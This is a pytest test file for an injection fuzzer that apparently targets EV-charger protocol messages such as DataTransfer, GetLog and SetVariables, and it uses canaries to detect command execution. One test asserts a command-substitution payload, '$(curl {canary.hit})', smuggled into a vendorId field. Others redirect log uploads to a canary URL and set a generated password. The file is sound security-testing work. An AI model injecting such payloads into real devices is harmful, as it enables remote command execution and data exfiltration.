import asyncio
from collections.abc import Sequence

import pytest

from fuzz.engine.effects import names_credentials
from fuzz.engine.injection import LATE_OF_ONE_CLASS, LATE_S, TABLE, Injections
from fuzz.engine.phases import Ground
from fuzz.engine.stage import is_scene
from fuzz.engine.support import Coverage, Support
from fuzz.records import Ask, Case, Effect, Expect, SendText, Settle, Side, Wait
from strategies.labels import spell
from strategies.pool import Pool, PoolVariable
from strategies.version import version

V = version()
LOGS = 4


def ground(*only: str, side: Side = Side.STATION, supported: Sequence[str] = (), **more) -> Ground:
    made = Ground(V, side, 7, Support(set(supported or only)), Coverage(), catches=True)
    made.only = frozenset(only)
    for name, value in more.items():
        setattr(made, name, value)
    return made


def played(made: Ground) -> list[Case]:
    async def idle(seconds: float) -> None:
        await asyncio.sleep(0)

    async def play() -> list[Case]:
        return [case async for case in Injections(made).cases(idle)]

    return asyncio.run(play())


def test_where_nobody_waits_for_visitors_nothing_is_played():
    made = ground("DataTransfer", catches=False)
    assert (played(made), Injections(made).planned()) == ([], 0)


def test_ids_are_stable_and_unique():
    made = ground("DataTransfer", "GetLog")
    cases = played(made)
    ids = [case.id for case in cases]
    assert len(ids) == len(set(ids))
    assert "injection/DataTransfer/vendorId/substitution" in ids
    assert "injection/GetLog/log.remoteLocation/semicolon" in ids
    assert "injection/GetLog/upload/SecurityLog" in ids
    assert ids == [case.id for case in played(ground("DataTransfer", "GetLog", seed=8))]


def test_one_canary_is_met_in_every_place_before_the_next_one():
    cases = [c.id.rsplit("/", 1) for c in played(ground("DataTransfer"))]
    places = [place for place, canary in cases if canary == "substitution"]
    assert [place for place, _ in cases[: len(places)]] == places
    assert len(places) == 3


def test_a_control_is_the_same_message_with_a_harmless_value():
    (case,) = [c for c in played(ground("DataTransfer")) if c.id.endswith("vendorId/substitution")]
    (step,), (control,) = case.steps, case.control
    assert isinstance(step, SendText)
    assert isinstance(control, SendText)
    assert "$(curl {canary.hit})" in spell(step.text)
    assert spell(control.text) == '[2,"{call.id}","DataTransfer",{"vendorId":"lab"}]'


def test_what_may_start_a_transaction_is_a_scene_so_that_it_is_tidied_up():
    cases = played(ground("RequestStartTransaction"))
    assert cases
    assert all(case.effect is Effect.ENERGISE and case.steps[-1] == Settle() for case in cases)
    assert all(is_scene(case) for case in cases)


def test_effects_that_are_not_allowed_are_not_asked():
    harmless = frozenset({Effect.NONE, Effect.VOLATILE})
    made = ground("UpdateFirmware", "DataTransfer", allowed=harmless)
    assert {case.action for case in played(made)} == {"DataTransfer"}


def test_a_refused_action_is_left_out_and_not_counted():
    made = ground("DataTransfer", "GetVariables")
    made.support = Support({"GetVariables"}, {"DataTransfer"})
    assert {case.action for case in played(made)} == {"GetVariables"}
    assert made.coverage.counts()[TABLE] == (0, len(played(made)))


def test_what_is_supported_is_asked_first_where_it_is_not_known():
    made = ground("DataTransfer", "CostUpdated", supported=("CostUpdated",))
    assert played(made)[0].id == "DataTransfer.req#example"


def test_logs_are_uploaded_to_where_they_may_be():
    cases = [c for c in played(ground("GetLog", "SetVariables")) if "/upload" in c.id]
    assert len(cases) == LOGS
    for case in cases:
        assert isinstance(case.steps[-1], Expect)
        assert '"remoteLocation":"{canary.url}"' in spell(case.steps[-2].text)


def test_a_password_is_set_only_as_a_secret_and_only_where_that_is_allowed():
    with_password = [c for c in played(ground("GetLog", "SetVariables")) if names_credentials(c)]
    assert [c.id.rpartition("/")[0] for c in with_password] == [
        "injection/GetLog/upload-after-password"
    ] * 2
    for case in with_password:
        assert isinstance(case.steps[0], Ask)
        assert "{secret.password.20}" in spell(case.steps[0].text)
        assert case.effect is Effect.LOCK_OUT
    rest = frozenset(Effect) - {Effect.LOCK_OUT}
    assert not any(map(names_credentials, played(ground("GetLog", "SetVariables", allowed=rest))))


def test_variables_that_hold_text_are_set_but_never_credentials():
    pool = Pool(
        tuple(
            PoolVariable("SecurityCtrlr", name, data_type="string", value="x", max_limit=100)
            for name in ("OrganizationName", "BasicAuthPassword", "Identity")
        )
    )
    ids = [case.id for case in played(ground("SetVariables", pool=pool))]
    assert any(
        id_.startswith("injection/SetVariables/SecurityCtrlr.OrganizationName/") for id_ in ids
    )
    assert not any("BasicAuthPassword" in id_ or "Identity/" in id_ for id_ in ids)


def test_the_short_tier_has_one_canary_a_tongue():
    short = played(ground("DataTransfer", full=False))
    classes = [(c.mutations[0].pointer, c.mutations[0].operator) for c in short]
    assert len(classes) == len(set(classes)) > 0
    assert len(short) < len(played(ground("DataTransfer")))


def test_a_canary_that_is_followed_late_is_played_again_with_patience():
    first = played(ground("CostUpdated"))[0]
    late = [[first]]
    made = ground("CostUpdated", late_visits=lambda: late.pop() if late else [])
    again = played(made)[-1]
    assert again.id == f"{first.id}/late"
    assert again.steps == (*first.steps, Wait(LATE_S))


def test_only_a_few_late_ones_of_a_class_are_played_again():
    shells = [c for c in played(ground("DataTransfer")) if c.mutations[0].operator == "shell"]
    late = [shells]
    made = ground("DataTransfer", late_visits=lambda: late.pop() if late else [])
    again = [case.id for case in played(made) if case.id.endswith("/late")]
    assert again == [f"{case.id}/late" for case in shells[:LATE_OF_ONE_CLASS]]


def test_a_canary_that_is_late_again_is_left_at_that():
    first = played(ground("CostUpdated"))[0]
    late = [[first]]
    made = ground("CostUpdated", late_visits=lambda: late.pop() if late else [])
    again = [played(made)[-1]]
    made = ground("CostUpdated", late_visits=lambda: again)
    assert not any(case.id.endswith("/late/late") for case in played(made))


@pytest.mark.parametrize("side", list(Side))
def test_both_sides_have_something_to_be_asked(side):
    assert {c.side for c in played(ground("DataTransfer", side=side))} == {side}
